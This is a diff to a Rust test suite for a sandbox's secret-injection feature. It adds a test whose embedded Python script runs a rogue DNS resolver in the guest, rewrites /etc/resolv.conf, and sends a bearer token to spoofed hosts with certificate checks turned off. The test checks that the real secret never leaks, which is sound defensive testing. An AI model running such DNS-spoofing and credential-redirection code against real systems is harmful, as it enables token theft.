@@ -207,6 +207,73 @@ fn the_server_gets_the_value_and_the_guest_never_does() {
     );
 }
 
+/// A resolver in the guest, which nobody else sees, says that every host is where the
+/// attacker listens.
+const RESOLVER: &str = r#"
+import http.client, os, socket, ssl, sys, threading
+server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+server.bind(("127.0.0.1", 53))
+def answer():
+    while True:
+        query, client = server.recvfrom(512)
+        end = query.index(0, 12) + 5
+        record = b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\xc0\xa8\x7f\1" if query[end - 4:end - 2] == b"\0\1" else b""
+        count = b"\0\1" if record else b"\0\0"
+        server.sendto(query[:2] + b"\x81\x80\0\1" + count + b"\0\0\0\0" + query[12:end] + record, client)
+threading.Thread(target=answer, daemon=True).start()
+open("/etc/resolv.conf", "w").write("nameserver 127.0.0.1\n")
+print(socket.gethostbyname("a.example"), flush=True)
+def ask(port, tls=True):
+    if tls:
+        anybody = ssl._create_unverified_context()
+        client = http.client.HTTPSConnection("a.example", int(port), context=anybody)
+    else:
+        client = http.client.HTTPConnection("a.example", int(port))
+    try:
+        client.request("GET", "/", headers={"Authorization": "Bearer " + os.environ["TOKEN"]})
+        print(client.getresponse().status, flush=True)
+    except ssl.SSLError as error:
+        print(error.reason, flush=True)
+"#;
+
+/// What the guest's resolver says counts for nothing: neither over TLS, whose server is
+/// verified, nor without, where the value goes to addresses that the gateway's resolver gave.
+#[test]
+fn a_resolver_of_the_guests_own_leads_no_value_away() {
+    let lab = Lab::with_python();
+    let (outside, nobody) = (Outside::new(), Outside::named("nobody"));
+    let stranger = Server::start(Some(nobody.config(&["a.example"])));
+    let other = Server::start(Some(outside.config(&["b.example"])));
+    let (right, plain) = (
+        Server::start(Some(outside.config(&["a.example"]))),
+        Server::start(None),
+    );
+    let script = format!(
+        "{RESOLVER}\nask({})\nask({})\nask({})\nask({}, tls=False)\nprint(os.environ['TOKEN'])\n",
+        stranger.port, other.port, right.port, plain.port
+    );
+    let mut command = lab.msb(["run", "-q", "-m", "256M", "--net", "allow-all", "--tls-ca"]);
+    let secret = format!("TOKEN=env:{VARIABLE}@a.example,http=allow");
+    command.arg(outside.pem()).args(["--secret", &secret]);
+    command.args([PYTHON, "--", "python3", "-c", &script]);
+    let run = finish(command.env(VARIABLE, VALUE), b"");
+    assert_eq!(run.code, Some(0), "{run:?}");
+    let lines: Vec<_> = run.stdout.lines().collect();
+    let expected = [
+        "192.168.127.1",
+        "TLSV1_ALERT_UNKNOWN_CA",
+        "TLSV1_UNRECOGNIZED_NAME",
+        "200",
+        "200",
+    ];
+    assert_eq!(lines[..5], expected, "{run:?}");
+    assert_eq!(stranger.credentials(), [""; 0]);
+    assert_eq!(other.credentials(), [""; 0]);
+    // Whoever has the host's certificate is the host, wherever it is.
+    assert_eq!(right.credentials(), [VALUE]);
+    assert_eq!(plain.credentials(), [lines[5]]);
+}
+
 #[test]
 fn a_kept_sandbox_is_given_its_secrets_again() {
     let lab = Lab::with_python();
@@ -371,9 +438,12 @@ fn forks_have_placeholders_of_their_own() {
 fn secrets_that_cannot_be_used_are_refused_with_a_remedy() {
     let lab = Lab::shared();
     for (flag, part) in [
-        ("TOKEN=env:MSB_TEST_UNSET@a.example", "set MSB_TEST_UNSET"),
-        ("TOKEN=file:/nowhere/token@a.example", "/nowhere/token"),
-        ("TOKEN=hunter2hunter2@a.example", "TOKEN=file:PATH"),
+        (
+            "TOKEN=env:MSB_TEST_UNSET@a.example",
+            "TOKEN=env:… is not set",
+        ),
+        ("TOKEN=file:/nowhere/token@a.example", "TOKEN=file:… cannot"),
+        ("TOKEN=hunter2hunter2@a.example", "NAME=file:PATH"),
         ("TOKEN=env:PATH", "@api.example.com"),
         ("TOKEN=env:PATH@a_.b..c", "a_.b..c"),
         ("PATH=env:PATH@a.example", "another variable"),
